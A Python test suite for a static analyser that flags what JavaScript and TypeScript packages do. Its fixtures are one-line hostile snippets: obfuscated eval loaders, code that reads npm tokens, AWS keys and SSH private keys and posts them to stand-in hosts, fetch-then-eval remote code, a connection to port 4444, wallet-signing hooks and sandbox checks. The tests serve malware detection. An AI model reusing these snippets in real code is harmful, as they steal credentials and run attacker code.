"""JavaScript and TypeScript are read by the same interpreter: what runs, with what, when, and where it goes."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reading import seen, short

from biopsy.model.behaviour import When

PLAIN = "require('child_process').exec('echo a marker and nothing else')"
RUN = "process.exec echo a marker and nothing else"
B64 = base64.b64encode(PLAIN.encode()).decode()
HIDDEN = {
    "eval of Buffer": f"eval(Buffer.from('{B64}', 'base64').toString())",
    "atob": f"new Function(atob('{B64}'))()",
    "hex": f"eval(Buffer.from('{PLAIN.encode().hex()}', 'hex').toString('utf8'))",
    "char codes": f"eval(String.fromCharCode({','.join(str(ord(c)) for c in PLAIN)}))",
    "char codes, spread": f"eval(String.fromCharCode(...{[ord(c) for c in PLAIN]}))",
    "map": f"eval({[ord(c) + 3 for c in PLAIN]}.map(c => String.fromCharCode(c - 3)).join(''))",
    "counted loop": f"const e = {[ord(c) ^ 9 for c in PLAIN]}; let s = ''; for (let i = 0; i < e.length; i++) s += String.fromCharCode(e[i] ^ 9); eval(s)",
    "computed member": f"globalThis['ev' + 'al'](atob('{B64}'))",
    "reversed": f"eval(`{PLAIN[::-1]}`.split('').reverse().join(''))",
    "escapes": "eval('" + "".join(f"\\x{ord(c):02x}" for c in PLAIN) + "')",
    "vm": f"require('vm').runInNewContext(atob('{B64}'))",
    "alias": f"const v = require('vm'); const {{runInThisContext: r}} = v; r(atob('{B64}'))",
    "import": f"import {{ runInThisContext as r }} from 'node:vm'; r(atob('{B64}'));",
    "constructor": f"(function(){{}}).constructor(atob('{B64}'))()",
    "helper": f"const d = (x) => Buffer.from(x, 'base64').toString(); eval(d('{B64}'))",
    "indirect": f"(0, eval)(atob('{B64}'))",
    "template": f"const a = 'base64'; eval(`${{Buffer.from('{B64}', a)}}`)",
    "timer": f"setTimeout(() => eval(atob('{B64}')), 5)",
    "promise": f"Promise.resolve('{B64}').then(x => eval(atob(x)))",
    "layers": f"eval(atob('{base64.b64encode(f'eval(atob(`{B64}`))'.encode()).decode()}'))",
}


@pytest.mark.parametrize("name", HIDDEN)
def test_hidden_code_is_found_and_read_in_turn(name: str) -> None:
    assert f"{RUN} @ index.js:1 (import)" in seen(HIDDEN[name], "index.js")


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("require('child_process').execSync('id')", "process.exec id"),
        ("const {spawn: s} = require('node:child_process'); s('curl', ['-s', u])", "process.exec curl -s ?"),
        ("import * as cp from 'child_process'; cp.exec(`ping ${x}`)", "process.exec ping ?"),
        ("const cp = require('child_' + 'process'); cp['exe' + 'cSync']('id')", "process.exec id"),
        ("console.log(process.env.NPM_TOKEN)", "env.read NPM_TOKEN"),
        ("const {AWS_KEY: k} = process.env", "env.read AWS_KEY"),
        ("JSON.stringify(process.env)", "env.read *"),
        ("process['e' + 'nv']['NPM_' + 'TOKEN']", "env.read NPM_TOKEN"),
        ("require('os').hostname()", "env.host hostname"),
        ("require('os').userInfo().username", "env.host username"),
        ("const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.npmrc'))", "file.read ~/.npmrc"),
        ("require('fs').promises.readFile(process.env.HOME + '/.ssh/id_rsa')", "file.read ~/.ssh/id_rsa"),
        ("require('fs').writeFileSync(__dirname + '/../ethers/lib/x.js', 'y')", "file.write ./../ethers/lib/x.js"),
        ("require('fs').rmSync('/home', {recursive: true})", "file.delete /home"),
        ("fetch('https://x.example/' + a, {method: 'POST', body: b})", "net.http POST https://x.example/?"),
        ("require('https').get('https://x.example/a', r => {})", "net.http GET https://x.example/a"),
        ("require('https').request({hostname: 'x.example', port: 8443, path: '/a', method: 'PUT'})", "net.http PUT https://x.example:8443/a"),
        ("const axios = require('axios'); axios.post('https://x.example', d)", "net.http POST https://x.example"),
        ("import axios from 'axios'; axios({url: 'https://x.example', method: 'post'})", "net.http POST https://x.example"),
        ("require('net').connect(4444, '203.0.113.9')", "net.connect 203.0.113.9:4444"),
        ("require('dns').resolveTxt('a.example', () => {})", "net.dns a.example TXT"),
        ("setTimeout(f, 1000 * 60 * 60); fetch(u)", "evasion.sleep 3600"),
        ("fetch(new URL('/a?b', 'https://x.example'))", "net.http GET https://x.example/a?b"),
        ("fetch(new URL('c', 'https://x.example/a/b'), {method: 'POST'})", "net.http POST https://x.example/a/c"),
        ("fetch(new URL('https://y.example/c', 'https://x.example'))", "net.http GET https://y.example/c"),
        ("fetch(new URL(`/${a}/b`, 'https://x.example/'))", "net.http GET https://x.example/?/b"),
        ("if (require('os').cpus().length < 4) process.exit()", "evasion.fingerprint cpus"),
        ("if (/vps|server/.test(require('os').hostname())) process.exit()", "evasion.fingerprint hostname"),
        ("require(process.argv[2] + 'x')", "code.import ?x"),
        ("require('./build/x.node'); require('fs')", "code.native require ./build/x.node"),
        ("const w = require('wallet'); w.sign = function (k) { return fetch(k) }", "code.patch wallet.sign"),
        (
            "const p = window.ethereum; p.request = (a) => { if (a.method === 'eth_sendTransaction') a.params = TO }",
            "code.patch ethereum.request",
        ),
        ("const u = 'https://x.example/a'", "net.url https://x.example/a"),
        ("var _0x1a2b = ['a'];" + "var x = _0x1a2b[0];" * 30, "code.obfuscated hex-identifiers"),
    ],
)  # fmt: skip
def test_each_capability_is_told(code: str, expected: str) -> None:
    assert expected in short(seen(code, "index.js"))


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("fetch('https://x.example', {method: 'POST', body: JSON.stringify(process.env)})", "env:* > network"),
        ("const r = require('https').request({hostname: 'x.example'}, () => {}); r.write(JSON.stringify({...process.env})); r.end()", "env:* > network"),
        ("const d = {}; for (const k in process.env) d[k] = process.env[k]; d.all = process.env; require('axios').post('https://x.example', d)", "env:* > network"),
        ("const t = process.env.NPM_TOKEN; fetch(`https://x.example/?t=${encodeURIComponent(t)}`)", "env:NPM_TOKEN > network"),
        ("const os = require('os'); fetch('https://x.example', {body: JSON.stringify({h: os.hostname()})})", "host > network"),
        ("const fs = require('fs'); for (const f of ['.npmrc', '.ssh/id_rsa']) { const c = fs.readFileSync(require('os').homedir() + '/' + f); fetch('https://x.example', {body: c}) }", "file:~/.ssh/id_rsa > network"),
        ("fetch('https://x.example').then(r => r.text()).then(t => eval(t))", "network > execution"),
        ("fetch('https://x.example').then(r => r.text()).then(t => [].constructor.constructor('r', t)(require))", "network > execution"),
        ("fetch('https://x.example').then(r => r.text()).then(t => ({}).constructor.constructor(t)())", "network > execution"),
        ("const u = new URL('https://x.example'); u.searchParams.append('a', process.env.NPM_TOKEN); fetch(u)", "env:NPM_TOKEN > network"),
        ("const u = new URL('/a', 'https://x.example'); u.searchParams.set('a', process.env.NPM_TOKEN); require('https').get(u.toString())", "env:NPM_TOKEN > network"),
        ("const u = new URL('https://x.example'); u.search = '?' + process.env.NPM_TOKEN; fetch(u.href)", "env:NPM_TOKEN > network"),
        ("(async () => { const r = await fetch('https://x.example'); new Function('require', await r.text())(require) })()", "network > execution"),
        ("require('https').get('https://x.example', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)) })", "network > execution"),
        ("const {data} = await require('axios').get('https://x.example'); eval(data.cookie)", "network > execution"),
        ("require('https').get('http://x.example', r => { const f = require('fs').createWriteStream('/tmp/a'); r.pipe(f); f.on('finish', () => 1); require('child_process').exec('/tmp/a') })", "network > execution"),
        ("function page(done, u) { fetch(u).then(r => r.text()).then(done) } setImmediate(page, t => eval(t), 'https://x.example')", "network > execution"),
        ("process.nextTick((u, f) => fetch(u).then(r => r.text()).then(f), 'https://x.example', t => eval(t))", "network > execution"),
        ("require('dns').resolveTxt('x.example', (e, r) => require('child_process').exec(r[0][0]))", "network > execution"),
        (f"eval(Buffer.from('{B64}', 'base64').toString())", "decoded > execution"),
        ("const c = require('crypto').createDecipheriv('aes-256-cbc', k, i); eval(c.update('" + "ab" * 40 + "', 'hex', 'utf8') + c.final('utf8'))", "decoded > execution"),
        ("function get(u) { return new Promise(ok => require('https').get(u, r => r.on('data', d => ok(d)))) } get('https://x.example').then(c => eval(c))", "network > execution"),
        ("const w = new WebSocket('wss://x.example'); w.onmessage = e => 1; w.send(JSON.stringify(process.env))", "env:* > network"),
    ],
)  # fmt: skip
def test_a_flow_is_followed_to_its_sink(code: str, expected: str) -> None:
    assert f"code.flow {expected}" in short(seen(code, "index.js"))


@pytest.mark.parametrize(
    "code",
    [
        "const debug = process.env.DEBUG; fetch('https://x.example/' + debug)",
        "require('child_process').spawn('make', [], {env: {...process.env}})",
        "fetch('https://x.example').then(r => r.json()).then(j => console.log(j))",
        "const g = Function('return this')(); fetch('x')",
        "const r = await fetch('https://x.example'); if (r.ok) eval('1')",
        "const fs = require('fs'); eval(fs.readFileSync(__dirname + '/x.js', 'utf8'))",
        "const x = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk', 'base64'); require('fs').writeFileSync('a.png', x)",
    ],
)
def test_what_is_no_chain_is_no_flow(code: str) -> None:
    assert not [b for b in seen(code, "index.js") if b.startswith("code.flow")]


def test_a_moment_is_that_of_who_calls() -> None:
    code = "const {exec} = require('child_process');\nfunction a() { exec('a') }\nexports.b = () => exec('b');\na();\napp.get('/', () => exec('c'));\n"
    assert {b for b in seen(code, "index.js") if b.startswith("process")} == {
        "process.exec a @ index.js:2 (import)",
        "process.exec b @ index.js:3 (call)",
        "process.exec c @ index.js:5 (call)",
    }


def test_typescript_is_read_too() -> None:
    code = "import { execSync } from 'child_process';\nconst x = (a: string): void => { execSync(a as string) };\nx(<any>'id');\nexecSync('id'!);\n"
    assert "process.exec id @ index.ts:4 (import)" in seen(code, "index.ts")


@pytest.mark.parametrize(
    "code",
    [
        "eval(" + "(" * 20_000,
        "fetch(" + "[" * 5000 + "]" * 5000 + ")",
        "const x = " + "+".join(["'a'"] * 30_000) + "; eval(x)",
        "const cp = require('child_process');" + "".join(f"function f{i}(x) {{ return f{i + 1}(x) + f{i + 1}(x + eval('1')) }}" for i in range(60)) + "f0(1)",
        "const a = [1]; for (const x of a) { a.push(eval('1')) }",
        "for (let i = 0; i < 1e9; i++) eval('1')",
        "eval('a'.repeat(1e9))",
        "eval(`${" * 3000,
        "function f(x) { return f(f(x) + process.env.A) } f('')",
    ],
)  # fmt: skip
def test_hostile_code_ends(code: str) -> None:
    seen(code, "index.js")


WORDS = ["eval(", ")", "require('fs')", "\n", "process.env", "[", "]", "'a'", "`${", "}", "`", "+", "=>", "function f(x) {", "}", " ", "f", "(", "x", "=", "for (const x of", "{", "...", ",", "atob(", "class A {", "return", "await", "1", "\\x41", "const", "fetch", ".then", "/*", "//"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(WORDS), max_size=60))
def test_any_words_can_be_read(words: list[str]) -> None:
    seen("eval(1);" + "".join(words), "index.js", When.INSTALL)


@pytest.mark.parametrize(
    ("path", "climbs", "expected"),
    [
        ("scripts/a.js", "'..', 'package.json'", "./package.json"),
        ("lib/a/b.js", "'../../package.json'", "./package.json"),
        ("a.js", "'..', 'package.json'", "./../package.json"),
        ("scripts/a.js", "'../../..', 'package.json'", "./../../../package.json"),
    ],
)
def test_a_file_that_a_package_climbs_to_within_itself_is_its_own(
    path: str, climbs: str, expected: str
) -> None:
    code = f"require('fs').writeFileSync(require('path').resolve(__dirname, {climbs}), 'x')"
    assert f"file.write {expected}" in short(seen(code, path, also=("package.json",)))
